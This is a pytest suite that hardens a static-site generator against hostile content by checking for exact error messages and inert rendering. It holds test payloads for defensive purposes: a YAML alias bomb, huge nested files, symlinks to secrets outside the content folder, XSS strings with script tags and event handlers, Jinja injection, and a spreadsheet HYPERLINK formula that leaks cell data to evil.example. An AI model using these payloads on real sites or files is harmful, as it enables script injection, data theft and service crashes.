"""Broken and hostile content through the real command line (see tests/hostile/README.md).

Every case ends either with exit 1 and exact diagnostics naming the place, or in a build where the
hostile text shows as inert text. Never a traceback, a hang (TIMEOUT), an injected element, a file
written outside the output folders, or a changed site after a failed build.

Cases in tests/hostile/<case>/ are content fragments with an expect.yml; the cases below the
static ones need bytes, sizes or file-system tricks that do not belong in git and are built at
test time.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Callable

import pytest
import yaml
from bs4 import BeautifulSoup

from generator.model.narrative import plain_text

from .conftest import COUNTRY, REPO, country_files, pagefind_fragments, write_content

HOSTILE = Path(__file__).parent / "hostile"
TIMEOUT = 120  # seconds: a command still running after this is a hang
REPORT = "countries/ruritania/reports/nit-2022.yml"
COUNTRY_FILE = "countries/ruritania/country.yml"
EVENTS = "countries/ruritania/events.yml"
ELECTIONS = "countries/ruritania/elections"


# --- Running the command line, and watching the file system ---------------------------------

def cli(cwd: Path, *args: str) -> subprocess.CompletedProcess:
    """`python -m generator ARGS` in `cwd`, as an editor runs it; a hang fails the test."""
    env = dict(os.environ, PYTHONPATH=str(REPO), NO_MKDOCS_2_WARNING="1", PYTHONIOENCODING="utf-8")
    try:
        proc = subprocess.run([sys.executable, "-m", "generator", *args], cwd=cwd, env=env,
                              capture_output=True, encoding="utf-8", errors="strict",
                              timeout=TIMEOUT)
    except subprocess.TimeoutExpired:
        pytest.fail(f"`generator {args[0]}` still ran after {TIMEOUT} s: a hang")
    assert "Traceback" not in proc.stderr, proc.stderr
    assert "internal error" not in proc.stderr, proc.stderr
    assert proc.returncode in (0, 1), (proc.returncode, proc.stderr[-2000:])
    return proc


def snapshot(root: Path, skip: tuple[str, ...] = ()) -> dict[str, str]:
    """Every entry under root (but the top-level names in `skip`): digest, link or folder."""
    state: dict[str, str] = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root)
        if rel.parts[0] in skip:
            continue
        if path.is_symlink():
            state[rel.as_posix()] = "-> " + os.readlink(path)
        elif path.is_file():
            state[rel.as_posix()] = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            state[rel.as_posix()] = "folder" if path.is_dir() else "other"
    return state


class Sandbox:
    """A case's folder: content/ (and whatever it links to), site/ and work/ for builds.

    `check_nothing_else_written` asserts that a run changed nothing but site/ and work/ in the
    folder and added nothing beside it (the folders of other tests, pytest's temporary root).
    """

    def __init__(self, root: Path) -> None:
        self.root = root
        self.content = write_content(root, country_files())
        self.site = root / "site"
        self.work = root / "work"

    def start(self) -> None:
        self._before = snapshot(self.root, skip=("site", "work"))
        self._beside = sorted(p.name for p in self.root.parent.iterdir())

    def check_nothing_else_written(self) -> None:
        assert snapshot(self.root, skip=("site", "work")) == self._before
        assert sorted(p.name for p in self.root.parent.iterdir()) == self._beside
        staging = [p.name for p in self.root.iterdir() if p.name.startswith(".")]
        assert staging == [], f"left behind: {staging}"

    def validate(self) -> subprocess.CompletedProcess:
        self.start()
        proc = cli(self.root, "validate", "--content", "content")
        self.check_nothing_else_written()
        return proc

    def build(self, *extra: str) -> subprocess.CompletedProcess:
        self.start()
        proc = cli(self.root, "build", "--content", "content", "--site", "site", "--work", "work",
                   *extra)
        self.check_nothing_else_written()
        return proc


# --- Static cases: tests/hostile/<case>/ -----------------------------------------------------

STATIC = sorted(p.name for p in HOSTILE.iterdir() if (p / "expect.yml").is_file())


def test_the_corpus_is_all_there():
    assert len(STATIC) >= 30
    for case in STATIC:
        assert (HOSTILE / case / "content").is_dir(), case


@pytest.mark.parametrize("case", STATIC)
def test_static_case(case, tmp_path):
    expect = yaml.safe_load((HOSTILE / case / "expect.yml").read_text(encoding="utf-8"))
    box = Sandbox(tmp_path)
    shutil.copytree(HOSTILE / case / "content", box.content, dirs_exist_ok=True)
    proc = box.validate()
    assert (proc.returncode, proc.stderr.splitlines()) == (expect["exit"], expect["stderr"])
    assert proc.stdout == ""


def test_yaml_tags_are_never_constructed(tmp_path):
    """tests/hostile/yaml-tags holds a PyYAML tag that would run `touch /tmp/hostile-pwned`."""
    marker = Path("/tmp/hostile-pwned")
    if marker.exists():
        pytest.skip(f"{marker} exists already")
    box = Sandbox(tmp_path)
    shutil.copytree(HOSTILE / "yaml-tags" / "content", box.content, dirs_exist_ok=True)
    box.validate()
    assert not marker.exists()


# --- Dynamic cases ----------------------------------------------------------------------------

ELECTION = """\
body: Mazhilis
kind: legislative
date: "2021-01-10"
results:
  - party: Nur Otan
    seats: 76
"""


def _write(content: Path, rel: str, data: bytes | str) -> None:
    path = content / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)


def _edit(content: Path, rel: str, old: str, new: str) -> None:
    text = (content / rel).read_text(encoding="utf-8")
    assert old in text
    _write(content, rel, text.replace(old, new))


def alias_bomb(content: Path) -> None:
    """Billion laughs: 9 levels of 9 aliases, 387 million strings if expanded."""
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 10)]
    _write(content, REPORT, "\n".join(lines) + "\n")


def file_50_mb(content: Path) -> None:
    with open(content / REPORT, "wb") as handle:
        handle.write(b"data_note: " + b"x" * 50_000_000 + b"\n")


def symlink_file_outside(content: Path) -> None:
    _write(content.parent / "outside", "secret.yml", "api_token: SECRET-hunter2\n")
    os.symlink(content.parent / "outside" / "secret.yml", content / EVENTS)


def symlink_dir_outside(content: Path) -> None:
    _write(content.parent / "outside", "country.yml", "name: SECRET-hunter2\n")
    os.symlink(content.parent / "outside", content / "countries" / "evil")


def undecodable_folder_name(content: Path) -> None:
    os.makedirs(os.path.join(os.fsencode(content / "countries"), b"caf\xe9"))
    _write(content, "countries/" + os.fsdecode(b"caf\xe9") + "/country.yml", "name: X\n")


def _report_edit(old: str, new: str, encoding: str = "utf-8") -> Callable[[Path], None]:
    def edit(content: Path) -> None:
        text = (content / REPORT).read_text(encoding="utf-8")
        assert old in text
        _write(content, REPORT, text.replace(old, new).encode(encoding))
    return edit


def _file(rel: str, data: str | bytes) -> Callable[[Path], None]:
    return lambda content: _write(content, rel, data)


R = f"content/{REPORT}"
SLUG = "expected lowercase letters, digits and single hyphens"
NESTED = "error: the data is nested more than 100 levels deep here, expected at most 100"
OUTSIDE = ("error: a symbolic link that does not lead inside the content folder, expected the"
           " file or folder itself")
MD_CHARS = "\\`*_{}[]()#+-.!|<>&~"
ONE = "Aborted: 1 error, 0 warnings in 1 file"
TWO = "Aborted: 2 errors, 0 warnings in 1 file"
OK = "OK: 7 files, no problems"

# case -> (what it does to the one-country tree, exit code, stderr lines; None: checked below)
DYNAMIC: dict[str, tuple[Callable[[Path], None], int, list[str] | None]] = {
    "alias-bomb": (alias_bomb, 1, None),
    "file-50-mb": (file_50_mb, 1, [
        f"{R}: error: the file is 50,000,012 bytes, expected at most 5,000,000", ONE]),
    # These three crashed the interpreter (segfault in libyaml's composer) before the fix.
    "deep-nesting-flow": (_file(REPORT, "a: " + "[" * 100_000 + "]" * 100_000 + "\n"), 1, [
        f"{R}:1:103: {NESTED}", ONE]),
    "deep-nesting-unclosed": (_file(REPORT, "a: " + "[" * 2_000_000), 1, [
        f"{R}:1:103: {NESTED}", ONE]),
    "deep-nesting-block": (_file(REPORT, "a:\n" + "- " * 50_000 + "x\n"), 1, [
        f"{R}:2:199: {NESTED}", ONE]),
    "deep-nesting-mapping": (_file(REPORT, "a: " + "{k: " * 150 + "x" + "}" * 150 + "\n"), 1, [
        f"{R}:1:400: {NESTED}", ONE]),
    # 2.4 million values in 4.8 MB took 40 s to load before the cap; now about one.
    "wide-list": (lambda c: _write(c, REPORT, (c / REPORT).read_text("utf-8") + "data_note: ["
                                   + "1," * 2_400_000 + "1]\n"), 1, [
        f"{R}:27:399891: error: the file holds more than 200,000 values, expected at most"
        " 200,000", ONE]),
    "huge-integer-64-bit-overflow": (_report_edit("edition: 2022", "edition: 0x" + "f" * 200), 1, [
        f"{R}:2:10: error: a whole number of 200 digits, expected at most 100", ONE]),
    "one-megabyte-line": (_report_edit("A note text.", "y" * 1_000_000), 1, [
        f"{R}:13:11: error: categories.electoral-process.narrative.paragraphs[1]: note [^2] is"
        " cited but not defined, expected one of notes 1..1",
        f"{R}:16:12: error: categories.electoral-process.narrative.notes.2: expected text of at"
        ' most 200,000 characters, got "yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy..."', TWO]),
    # 190,000 `[` in one paragraph: 4 minutes in Python-Markdown before the cap.
    "markdown-syntax-bomb": (_report_edit("The vote was held in January.", "[" * 190_000), 1, [
        f"{R}:1:1: error: (top level): the file's texts hold 190,018 of the characters"
        f" {MD_CHARS}, expected at most 50,000",
        f"{R}:13:11: error: categories.electoral-process.narrative.paragraphs[1]: expected text"
        f" with at most 10,000 of the characters {MD_CHARS} (the page build slows down with the"
        " square of their number), got 190,005", TWO]),
    "bom-and-crlf": (lambda c: _write(c, REPORT, b"\xef\xbb\xbf" + (c / REPORT).read_bytes()
                                      .replace(b"\n", b"\r\n")), 0, [OK]),
    "latin-1-bytes": (_report_edit("A note text.", "Caf\xe9", "latin-1"), 1, [
        f"{R}:16:16: error: byte 0xe9 is not UTF-8, expected UTF-8 text", ONE]),
    "utf-16": (lambda c: _write(c, REPORT, (c / REPORT).read_text("utf-8").encode("utf-16")), 1, [
        f"{R}:1:1: error: byte 0xff is not UTF-8, expected UTF-8 text", ONE]),
    "raw-nul": (_report_edit("A note text.", "A\x00note"), 1, [
        f"{R}:16:14: error: character U+0000 is not allowed in YAML, expected printable text",
        ONE]),
    "raw-bell": (_report_edit("A note text.", "A\x07note"), 1, [
        f"{R}:16:14: error: character U+0007 is not allowed in YAML, expected printable text",
        ONE]),
    "raw-c1-csi": (_report_edit("A note text.", "A\x9b2Jnote"), 1, [  # a terminal's ESC [
        f"{R}:16:14: error: character U+009B is not allowed in YAML, expected printable text",
        ONE]),
    "symlink-file-outside": (symlink_file_outside, 1, [f"content/{EVENTS}: {OUTSIDE}", ONE]),
    "symlink-dir-outside": (symlink_dir_outside, 1, [f"content/countries/evil: {OUTSIDE}", ONE]),
    "symlink-loop": (lambda c: os.symlink("events.yml", c / EVENTS), 1, [
        f"content/{EVENTS}: {OUTSIDE}", ONE]),
    "named-pipe": (lambda c: os.mkfifo(c / EVENTS), 1, [  # never opened
        f"content/{EVENTS}: error: not a regular file (a named pipe, socket or device), expected"
        " a YAML file", ONE]),
    # A folder named like the parent folder, plus a dot (no "..": no file system allows it;
    # made here because Windows cannot check such a folder out of git).
    # (cli._count_files counts the skipped file too: 8)
    "dots-folder": (_file("countries/.../country.yml", "a: [\n"), 0, ["OK: 8 files, no problems"]),
    "folder-named-like-a-file": (lambda c: (c / EVENTS).mkdir(), 1, [
        f"content/{EVENTS}: error: a folder where a file is expected, expected a YAML file of"
        " that name", ONE]),
    # Passed validation, then failed in MkDocs: re.match's `$` accepts a final newline.
    "newline-in-file-name": (_file(f"{ELECTIONS}/mazhilis\n.yml", ELECTION), 1, [
        f"content/{ELECTIONS}/mazhilis\\n.yml:1:1: error: (top level): file name 'mazhilis\\n'"
        " is not a slug, expected lowercase letters, digits and hyphens, at most 80 characters",
        ONE]),
    # Was an internal error (exit 3): the temporary file beside the page passed 255 bytes.
    "file-name-250-characters": (_file(f"{ELECTIONS}/{'a' * 250}.yml", ELECTION), 1, [
        f"content/{ELECTIONS}/{'a' * 250}.yml:1:1: error: (top level): file name '{'a' * 250}'"
        " is not a slug, expected lowercase letters, digits and hyphens, at most 80 characters",
        ONE]),
    "escape-in-folder-name": (_file("countries/\x1b[2J\x1b[31mred/country.yml", "name: X\n"), 1, [
        "content/countries/\\x1b[2J\\x1b[31mred/country.yml: error: folder name"
        f" '\\x1b[2J\\x1b[31mred' is not a slug, {SLUG}", ONE]),
    "undecodable-folder-name": (undecodable_folder_name, 1, [
        "content/countries/caf\\udce9/country.yml: error: folder name 'caf\\udce9' is not a"
        f" slug, {SLUG} ('\\udce9' is U+DCE9, not an ASCII letter)", ONE]),
    "bidi-in-folder-name": (_file("countries/ruri\u202etania/country.yml", "name: X\n"), 1, [
        "content/countries/ruri\\u202etania/country.yml: error: folder name"
        f" 'ruri\\u202etania' is not a slug, {SLUG} ('\\u202e' is U+202E, not an ASCII letter)",
        ONE]),
    "confusable-folder": (_file("countries/rurit\u0430nia/country.yml", COUNTRY), 1, [
        "content/countries/rurit\u0430nia/country.yml: error: folder name"
        f" 'rurit\u0430nia' is not a slug, {SLUG} ('\u0430' is U+0430, not an ASCII letter)",
        ONE]),
    # The fuzzer's F1: a refused value or an unknown key quoted with a CR, a line separator or
    # a bidi override in it sent the cursor back over the file name or reversed the line.
    "cr-and-bidi-quoted-in-messages": (_file(COUNTRY_FILE, COUNTRY.replace(
        "iso: null", 'iso: "KA\\rZ\\u2028"') + "source\u202e: x\n"), 1, [
        f"content/{COUNTRY_FILE}:3:6: error: iso: expected an ISO 3166-1 alpha-3 code such as"
        " KAZ ('\\u2028' is U+2028, not an ASCII letter), got \"KA\\rZ\\u2028\"",
        f"content/{COUNTRY_FILE}:5:1: error: source\\u202e: unknown field, expected one of:"
        " name, slug, iso, territory, codes, region, subregion, un_region, summary, basic_info,"
        " population, population_source, treaties, history", TWO]),
    "confusable-slug-field": (_file(COUNTRY_FILE, COUNTRY.replace("slug: ruritania",
                                                                  "slug: rurit\u0430nia")), 1, [
        f"content/{COUNTRY_FILE}:2:7: error: slug: expected a slug (lowercase letters, digits"
        " and single hyphens) ('\u0430' is U+0430, not an ASCII letter), got"
        ' "rurit\u0430nia"', ONE]),
}


@pytest.mark.parametrize("case", sorted(DYNAMIC))
def test_dynamic_case(case, tmp_path):
    make, code, lines = DYNAMIC[case]
    box = Sandbox(tmp_path)
    try:
        make(box.content)
    except OSError as exc:  # a file system without FIFOs or byte file names
        pytest.skip(f"cannot set the case up here: {exc}")
    proc = box.validate()
    assert proc.returncode == code, proc.stderr[-3000:]
    if lines is not None:
        assert proc.stderr.splitlines() == lines
    assert "SECRET" not in proc.stderr
    assert "\x1b" not in proc.stderr and "\u202e" not in proc.stderr


def test_alias_bomb_is_refused_alias_by_alias(tmp_path):
    box = Sandbox(tmp_path)
    alias_bomb(box.content)
    lines = box.validate().stderr.splitlines()
    aliases = [x for x in lines if "an alias repeats a node here" in x]
    assert len(aliases) == 81  # every *aN, none expanded
    assert aliases[0] == f"{R}:2:10: error: an alias repeats a node here, expected every value" \
                         " written out"
    assert lines[-1] == "Aborted: 93 errors, 0 warnings in 1 file"


def test_missing_content_folder(tmp_path):
    proc = cli(tmp_path, "validate", "--content", "nowhere")
    assert (proc.returncode, proc.stderr.splitlines()) == (1, [
        "nowhere: error: content folder not found", ONE])


# --- Inert rendering: one build holding every hostile string in every kind of field ----------

PAYLOADS = {
    "script": "<script>alert('x1')</script>",
    "img": '<img src=x onerror="alert(2)">',
    "jslink": "[click me](javascript:alert(3))",
    "rawa": '<a href="javascript:alert(4)" onclick="alert(5)">raw</a>',
    "jinja": "{{ 7*7 }} {% if true %}J{% endif %} {# c #} {## d ##} {{ site.__class__ }}",
    "table": "cell | break || a |\n|---|---|",
    "heading": "# Not a heading\n## Nor this\nSetext\n===",
    "notes": "</li></ol><script>alert(6)</script>",
    "comment": "<!-- x --> <![CDATA[ y ]]> <?php echo 1 ?> <style>*{display:none}</style>",
    "entities": "&amp; &lt;b&gt; &#60;script&#62; &#x6A;avascript:",
    "md": "**bold** __b__ *em* _em_ `code` ~~del~~ ![img](https://evil.example/p.png)"
          " <https://autolink.example> [^ x]: def [ref]: https://evil.example",
    "admonition": '!!! danger "Injected"',
    "attr": '{: onclick="alert(7)" } {#evil .cls onmouseover=alert(8)}',
    "bidi": "\u202eevil\u202c \u2066iso\u2069 zero\u200bwidth\u200d joiner",
    "rtl": "الانتخابات שלום",
    "csv": '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "backslash": "a\\\\b \\<script\\> \\` \\",
    "list": "1. one\n- two\n* three\n+ four\n> quote",
    "code": "    indented code\n\n```\nfenced\n```",
    "astral": "𝕏 🏳️‍🌈 \U0001F4A9",
    "space": "line1\n\nline2\r\nline3\tTab  end\u00a0nbsp\u2028sep",
}


def _quoted(text: str) -> str:
    """A YAML double-quoted scalar (JSON's escapes are YAML's; line separators escaped too)."""
    out = json.dumps(text, ensure_ascii=False)
    for ch in "\u2028\u2029\x85\ufeff":
        out = out.replace(ch, f"\\u{ord(ch):04x}")
    return out


def to_yaml(value, indent: int = 0) -> str:
    """Block YAML for test data: every text double-quoted, int keys plain (note numbers)."""
    pad = "  " * indent
    if isinstance(value, dict):
        if not value:
            return "{}"
        lines = []
        for key, item in value.items():
            name = str(key) if isinstance(key, int) else _quoted(key)
            if isinstance(item, (dict, list)) and item:
                lines.append(f"{pad}{name}:\n{to_yaml(item, indent + 1)}")
            else:
                lines.append(f"{pad}{name}: {to_yaml(item, indent + 1)}")
        return "\n".join(lines)
    if isinstance(value, list):
        if not value:
            return "[]"
        return "\n".join(f"{pad}-\n{to_yaml(item, indent + 1)}" if isinstance(item, (dict, list))
                         and item else f"{pad}- {to_yaml(item, indent + 1)}" for item in value)
    if value is None:
        return "null"
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return repr(value)
    return _quoted(value)


def zoo(plain: bool = False) -> tuple[dict[str, str], dict[str, list[str]], list[tuple]]:
    """A country with a hostile string in every text field (or, with `plain`, the same tree
    with plain words, whose pages must have the same elements), the texts each page must show,
    and the edits to the shipped index and treaty files."""
    payloads = {k: f"plain words {i}" for i, k in enumerate(PAYLOADS)} if plain else PAYLOADS
    names = list(payloads)
    every = " ¦ ".join(f"«{k}» {v}" for k, v in payloads.items())
    count = iter(range(1000))

    def line() -> str:  # a Line field (at most 500 characters): the next payload, one line
        key = names[next(count) % len(names)]
        return f"L{key}: " + re.sub(r"\s+", " ", payloads[key])

    long_note = ("x" if plain else "[") * 9_000  # under the cap of 10,000 syntax characters
    country = {
        "name": "Ruritania " + ("plain" if plain else PAYLOADS["script"] + " " + PAYLOADS["bidi"]),
        "slug": "ruritania", "region": "plain region" if plain else PAYLOADS["csv"],
        "subregion": line(), "summary": "Summary: " + every,
        "basic_info": {
            "population": 1000, "system_of_government": line(),
            "head_of_state": {"title": line(), "name": line(), "party": line(), "since": 2020},
            "head_of_state_selection": line(),
            "head_of_government": {"title": line(), "name": line(), "party": line()},
            "electoral_system": line(),
            "sources": [{"name": line(), "url": "https://example.org/a_(b)"}]},
        "treaties": {"statuses": {"iccpr": "state-party"}, "sources": [{"name": line()}]},
    }
    report = {
        "index": "nit", "edition": 2022, "covers": line(),
        "status": "consolidated-authoritarian-regime", "aggregate": 1.36, "percentage": 5.95,
        "summary": {"paragraphs": ["Exec: " + every + " [^1]",
                                   "Second " + payloads["notes"] + "[^2]"],
                    "notes": {1: "Note one: " + every, 2: long_note}},
        "categories": [
            {"id": "national-democratic-governance", "rating": 1.25},
            {"id": "electoral-process", "rating": 1.25, "narrative": {
                "paragraphs": ["Para: " + every + "[^1]"],
                "notes": {1: payloads["notes"] + " " + payloads["script"]}}},
            {"id": "civil-society", "rating": 1.5},
            {"id": "independent-media", "rating": 1.25},
            {"id": "local-democratic-governance", "rating": 1.75},
            {"id": "judicial-framework-and-independence", "rating": 1.25},
            {"id": "corruption", "rating": 1.25}],
        "author": {"name": line(), "bio": "Bio: " + every},
        "source": {"name": line(), "url": "https://example.org/report"},
        "data_note": "DataNote: " + every,
    }
    events = {"tracker": "gsod", "source": {"name": line()}, "events": [
        {"id": "ev-one", "month": "2024-06", "title": line(), "body": "Body: " + every,
         "updates": [{"date": "2024-07", "text": "Update: " + every}],
         "sources": [{"name": line()}, {"name": line(), "url": "https://example.org/s"}]},
        {"id": "human-rights-treaties", "month": "2024-05", "title": line(),
         "body": "Body2: " + every, "watch": True},
    ]}
    election = {"body": line(), "chamber": line(), "kind": "legislative", "date": "2021-01-10",
                "seats": 100, "summary": "Election: " + every,
                "results": [{"party": line(), "short_name": line()[:60], "seats": 60, "votes": 10},
                            {"party": line(), "seats": 40, "votes": 5}]}
    files = {
        COUNTRY_FILE: to_yaml(country) + "\n",
        REPORT: to_yaml(report) + "\n",
        EVENTS: to_yaml(events) + "\n",
        f"{ELECTIONS}/mazhilis-2021.yml": to_yaml(election) + "\n",
    }
    info = country["basic_info"]
    shown = {
        "countries/ruritania": [country["name"], country["region"], country["subregion"],
                                country["summary"]],
        "countries/ruritania/tracker": [
            info["system_of_government"], info["head_of_state_selection"],
            info["electoral_system"], info["sources"][0]["name"],
            *[v for k in ("head_of_state", "head_of_government") for v in info[k].values()
              if isinstance(v, str)],
            country["treaties"]["sources"][0]["name"], events["source"]["name"],
            *[e[k] for e in events["events"] for k in ("title", "body")],
            events["events"][0]["updates"][0]["text"],
            *[s["name"] for s in events["events"][0]["sources"]]],
        "countries/ruritania/nit-2022": [
            report["covers"], report["author"]["name"], report["author"]["bio"],
            report["source"]["name"], report["data_note"], *report["summary"]["notes"].values(),
            *[plain_text(p) for p in report["summary"]["paragraphs"]],
            *[plain_text(p) for p in report["categories"][1]["narrative"]["paragraphs"]],
            *report["categories"][1]["narrative"]["notes"].values()],
        "countries/ruritania/elections/mazhilis-2021": [
            election["body"], election["chamber"], election["summary"],
            *[r["party"] for r in election["results"]], election["results"][0]["short_name"]],
    }
    edits = [  # (file, line, hostile text) in the shipped index and treaty files
        ("indices/nit.yml", "name: Nations in Transit",
         "Nations <script>alert('ix0')</script> in Transit"),
        ("indices/nit.yml", "publisher: Freedom House",  # sorts after FIW's either way
         "Freedom House <b>bold</b> & {{ publisher }} [x](javascript:alert(9))"),
        ("indices/nit.yml", "    name: Electoral Process",
         "Electoral <script>alert('ix1')</script> | Process {#x}"),
        ("indices/nit.yml", "    short_name: Elections", "El<img src=x onerror=alert('ix2')>"),
        ("indices/nit.yml", "    name: Civil Society",
         "Civil ## Society </td></tr></table><script>alert(3)</script>"),
        ("treaties.yml", "name: International Covenant on Civil and Political Rights",
         "International Covenant <img src=x onerror=alert('tr1')> | {{ 1 }}"),
    ]
    if plain:  # the same text with its syntax replaced by letters
        edits = [(f, old, re.sub(r"[^\w\s]", "x", text)) for f, old, text in edits]
    index_edits = [(f, old, old.split(": ")[0] + ": " + _quoted(text)) for f, old, text in edits]
    edited = [text for _, _, text in edits]
    shown["countries/ruritania/nit-2022"] += [edited[0], edited[1], edited[2], edited[4]]
    shown["countries/ruritania/tracker"].append(edited[5])
    return files, shown, index_edits


def _zoo_box(root: Path, plain: bool) -> tuple[Sandbox, dict[str, list[str]]]:
    box = Sandbox(root)
    files, shown, edits = zoo(plain)
    for rel, text in files.items():
        _write(box.content, rel, text)
    for rel, old, new in edits:
        _edit(box.content, rel, old, new)
    return box, shown


@pytest.fixture(scope="module")
def builds(tmp_path_factory):
    """The hostile zoo, the same tree in plain words, and the plain one-country tree, built."""
    out = {}
    for name in ("zoo", "plain"):
        box, shown = _zoo_box(tmp_path_factory.mktemp(name), plain=name == "plain")
        proc = box.build()
        assert proc.returncode == 0, proc.stderr
        out[name] = (box, shown)
    clean = Sandbox(tmp_path_factory.mktemp("clean"))
    assert clean.build().returncode == 0
    out["clean"] = (clean, {})
    return out


def _pages(site: Path) -> dict[str, BeautifulSoup]:
    return {p.relative_to(site).as_posix(): BeautifulSoup(p.read_text(encoding="utf-8"),
                                                         "html.parser")
            for p in sorted(site.rglob("*.html"))}


def _norm(text: str) -> str:
    return re.sub(r"\s+", " ", text).strip()


def _scripts(page: BeautifulSoup) -> set[str]:
    """The page's scripts, their paths to the site root made alike so any two pages compare."""
    def alike(text: str) -> str:
        text = re.sub(r'(?:\.\./)+|(?<=")/(?=assets)', "", text)
        return re.sub(r'"(?:\.\.|\.|/)"', '"BASE"', text)
    return {alike(s.get("src") or "inline:" + s.get_text()) for s in page("script")
            if s.get("type") != "application/json"}  # data, checked by _injected


def _inert_data(page: BeautifulSoup) -> list[str]:
    """A data block (the compare page's <script type="application/json">) must be one JSON
    value from start to end: text that closed it and opened a script would break that."""
    found = []
    for block in page("script", type="application/json"):
        try:
            json.loads(block.get_text())
        except ValueError:
            found.append(f"script data {block.get_text()[:60]}")
    return found


def _injected(page: BeautifulSoup, theme_scripts: set[str]) -> list[str]:
    found = [f"script {s[:60]}" for s in _scripts(page) - theme_scripts] + _inert_data(page)
    for tag in page.find_all(True):
        found += [f"<{tag.name} {a}>" for a in tag.attrs if a.lower().startswith("on")]
        for attr in ("href", "src", "action", "formaction", "srcdoc", "xlink:href"):
            value = tag.get(attr)
            if tag.name == "a" and attr == "href" and tag.has_attr("download") and \
                    isinstance(value, str) and value.startswith("data:text/csv;charset=utf-8,"):
                continue  # a chart's figures as a CSV file to save, not a page or a script
            if isinstance(value, str) and re.match(
                    r"\s*(javascript|data|vbscript):|\s*(https?:)?//[^/]*evil", value, re.I):
                found.append(f"<{tag.name} {attr}={value[:60]}>")
        if tag.name in ("img", "iframe", "object", "embed", "style", "base", "textarea", "meta") \
                and not (tag.name == "meta" and tag.parent.name == "head"):
            found.append(f"<{tag.name}>")
    return found


def _without_navigation(page: BeautifulSoup) -> BeautifulSoup:
    """The page without its navigation sidebars (see test_navigation_is_inert)."""
    page = BeautifulSoup(str(page), "html.parser")
    for nav in page.select("nav.md-nav--primary, nav.md-tabs"):
        nav.decompose()
    return page


def _theme_scripts(builds) -> set[str]:
    """The theme's scripts and the project's own (templates/assets, which a page of the clean
    build may not load: the treaty page needs treaty data)."""
    own = {f"assets/{p.name}" for p in (REPO / "templates" / "assets").glob("*.js")}
    return own.union(*(_scripts(p) for p in _pages(builds["clean"][0].site).values()))


@pytest.mark.site
def test_hostile_text_shows_literally_on_every_page(builds):
    box, shown = builds["zoo"]
    pages = _pages(box.site)
    for page, texts in shown.items():
        article = _norm(pages[f"{page}/index.html"].select_one("article").get_text())
        missing = [t[:80] for t in texts if _norm(t) not in article]
        assert missing == [], page
    # front matter: the <title>, the header and the description show the name as text
    country = pages["countries/ruritania/index.html"]
    name = "Ruritania " + PAYLOADS["script"] + " " + PAYLOADS["bidi"]
    assert country.title.get_text().startswith(name + " - ")
    assert _norm(country.select_one("[data-md-component=header-topic]").get_text()) == name
    assert name in country.find("meta", attrs={"name": "description"})["content"]


@pytest.mark.site
def test_pages_hold_the_same_elements_as_with_plain_text(builds):
    """Any element a hostile string made (a script, a link, a heading, a table row, an
    admonition, emphasis) would differ from the same tree written in plain words. Charts are
    left out: their text is escaped in generator/charts, and its width moves their layout."""
    def shape(page: BeautifulSoup) -> list[tuple]:
        article = page.select_one("article")
        for svg in article.find_all("svg"):
            svg.decompose()
        return [(t.name, tuple(sorted(a for a in t.attrs if a not in ("id", "href", "title"))))
                for t in article.find_all(True)]
    zoo_pages, plain_pages = _pages(builds["zoo"][0].site), _pages(builds["plain"][0].site)
    assert sorted(zoo_pages) == sorted(plain_pages)
    for name, page in zoo_pages.items():
        assert shape(page) == shape(plain_pages[name]), name


@pytest.mark.site
def test_no_script_or_handler_from_data_outside_the_navigation(builds):
    theme = _theme_scripts(builds)
    for name, page in _pages(builds["zoo"][0].site).items():
        assert _injected(_without_navigation(page), theme) == [], name


@pytest.mark.site
def test_navigation_is_inert(builds):
    theme = _theme_scripts(builds)
    problems = {name: found for name, page in _pages(builds["zoo"][0].site).items()
                if (found := _injected(page, theme))}
    assert problems == {}


@pytest.mark.site
def test_search_index_holds_data_text_as_text(builds):
    """Pagefind indexes the text readers see: a payload is in it as the characters it is made
    of (the search page inserts it as text: tests/browser/test_browser.py)."""
    fragments = pagefind_fragments(builds["zoo"][0].site)
    country = fragments["/countries/ruritania/"]
    assert PAYLOADS["script"] in country["content"]
    assert PAYLOADS["script"] in country["meta"]["title"]
    assert country["filters"]["Country"] == [_norm(country["meta"]["title"])]


@pytest.mark.site
def test_csv_download_neutralises_formula_text(builds):
    """`=HYPERLINK(…)` in a name: the CSV cell starts with an apostrophe, so a spreadsheet shows
    it as text instead of running it; the JSON download keeps the text exactly."""
    site = builds["zoo"][0].site
    rows = list(csv.DictReader(io.StringIO((site / "downloads/ruritania.csv").read_text())))
    assert {row["region"] for row in rows} == {"'" + PAYLOADS["csv"]}
    assert json.loads((site / "downloads/ruritania.json").read_text())["country"]["region"] == \
        PAYLOADS["csv"]


@pytest.mark.site
def test_event_ids_cannot_take_a_headings_anchor(builds):
    tracker = _pages(builds["zoo"][0].site)["countries/ruritania/tracker/index.html"]
    assert tracker.find(id="human-rights-treaties").name == "h2"


# --- Failed builds leave the previous site as it was ------------------------------------------

@pytest.mark.site
def test_failed_validation_keeps_the_previous_site(builds, tmp_path):
    box = Sandbox(tmp_path)
    shutil.copytree(builds["clean"][0].site, box.site)
    before = snapshot(box.site)
    shutil.copytree(HOSTILE / "escaped-control-characters" / "content", box.content,
                    dirs_exist_ok=True)
    proc = box.build()
    assert proc.returncode == 1
    assert proc.stderr.splitlines()[-1] == "Aborted: 5 errors, 0 warnings in 1 file"
    assert snapshot(box.site) == before


@pytest.mark.site
def test_failed_mkdocs_build_keeps_the_previous_site(builds, tmp_path):
    """A template that links to a missing page: MkDocs --strict fails after pages were written;
    the half-built site stays in a staging folder that is removed."""
    box = Sandbox(tmp_path)
    shutil.copytree(builds["clean"][0].site, box.site)
    before = snapshot(box.site)
    templates = tmp_path / "templates"
    shutil.copytree(REPO / "templates", templates)
    home = templates / "home.md.j2"
    home.write_text(home.read_text() + "\n[broken](no-such-page.md)\n")
    proc = box.build("--templates", str(templates))
    assert proc.returncode == 1
    assert "no-such-page.md" in proc.stderr
